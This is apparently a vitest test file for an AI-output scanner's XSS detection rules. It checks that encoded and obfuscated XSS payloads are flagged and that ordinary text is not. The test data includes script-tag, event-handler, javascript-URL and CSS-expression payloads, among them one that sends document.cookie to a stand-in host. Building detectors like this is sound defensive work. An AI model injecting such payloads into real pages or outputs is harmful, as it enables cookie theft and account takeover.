import { describe, expect, it } from 'vitest';
import { createScanner } from '../scanner.js';
import { blankFencedCode } from './tool-args-markdown.js';

// Layer 1 alone: these tests are about the rules, not about what the model adds.
const scanner = createScanner({ layers: ['l1'] });

function xssFindings(text: string): string[] {
  return scanner
    .scan({ kind: 'output', text })
    .findings.filter((finding) => finding.category === 'xss')
    .map((finding) => finding.ruleId);
}

describe('fenced code', () => {
  it('is blanked without moving the rest of the text', () => {
    const text = 'before\n```html\n<script>x()</script>\n```\nafter <b>';
    const blanked = blankFencedCode(text);
    expect(blanked.length).toBe(text.length);
    expect(blanked).not.toContain('<script>');
    expect(blanked.indexOf('after <b>')).toBe(text.indexOf('after <b>'));
  });
});

describe('XSS rules: active content', () => {
  it.each([
    ['<script>alert(1)</script>', 'xss.script-tag'],
    ['"><script src=https://cdn.example/x.js></script>', 'xss.script-tag'],
    ['%3Cscript%3Ealert(1)%3C/script%3E', 'xss.script-tag'],
    ['&lt;script&gt;alert(1)&lt;/script&gt;', 'xss.script-tag'],
    ['<scr\\0ipt>alert(1)</script>', 'xss.script-tag'],
    ['+ADw-script+AD4-alert(1)+ADw-/script+AD4-', 'xss.script-tag'],
    ['<img src=x onerror=alert(document.domain)>', 'xss.event-handler'],
    ["<svg/onload=fetch('//x.example/'+document.cookie)>", 'xss.event-handler'],
    ['<body onload=init()>', 'xss.event-handler'],
    ['" onmouseover="alert(1)', 'xss.event-handler'],
    ['<a href="javascript:alert(1)">x</a>', 'xss.javascript-url'],
    ['<a href="jav&#x09;ascript:alert(1)">x</a>', 'xss.javascript-url'],
    [
      '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
      'xss.javascript-url',
    ],
    ['[click me](javascript:alert(document.cookie))', 'xss.javascript-url'],
    ['<div style="background:url(javascript:alert(1))">', 'xss.javascript-url'],
    [
      '<iframe src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></iframe>',
      'xss.data-url',
    ],
    ['<iframe src="https://evil.example/login"></iframe>', 'xss.embedded-content'],
    ['<meta http-equiv="refresh" content="0;url=https://evil.example/">', 'xss.embedded-content'],
    ['<div style="width: expression(alert(1))">', 'xss.css-expression'],
    ['<p style="x:expr/**/ession(alert(1))">', 'xss.css-expression'],
    ["';alert(1)//", 'xss.script-breakout'],
    ['"-confirm(document.cookie)-"', 'xss.script-breakout'],
  ])('flags %j as %s', (text, ruleId) => {
    expect(xssFindings(text)).toContain(ruleId);
  });
});

describe('XSS rules: ordinary output', () => {
  it.each([
    'Use the `onClick` prop in React to handle clicks.',
    'JavaScript: The Definitive Guide is a classic book.',
    'Here is the markup:\n\n```html\n<button onclick="save()">Save</button>\n<script src="app.js"></script>\n```\n',
    'The expression (a + b) * c is evaluated first.',
    'Compare a < b and b > c before you sort.',
    'Read the docs at https://example.com/docs?ref=javascript',
    'Call alert() to show a dialog, or console.log to print.',
    '<p>Hello <b>world</b></p>',
    '![diagram](https://example.com/diagram.png)',
    'Set `data-onload="lazy"` on the image.',
    'The onload event fires when the page has loaded.',
  ])('finds nothing in %j', (text) => {
    expect(xssFindings(text)).toEqual([]);
  });

  it('leaves bare event-handler names alone', () => {
    expect(xssFindings('onerror')).toEqual([]);
  });
});
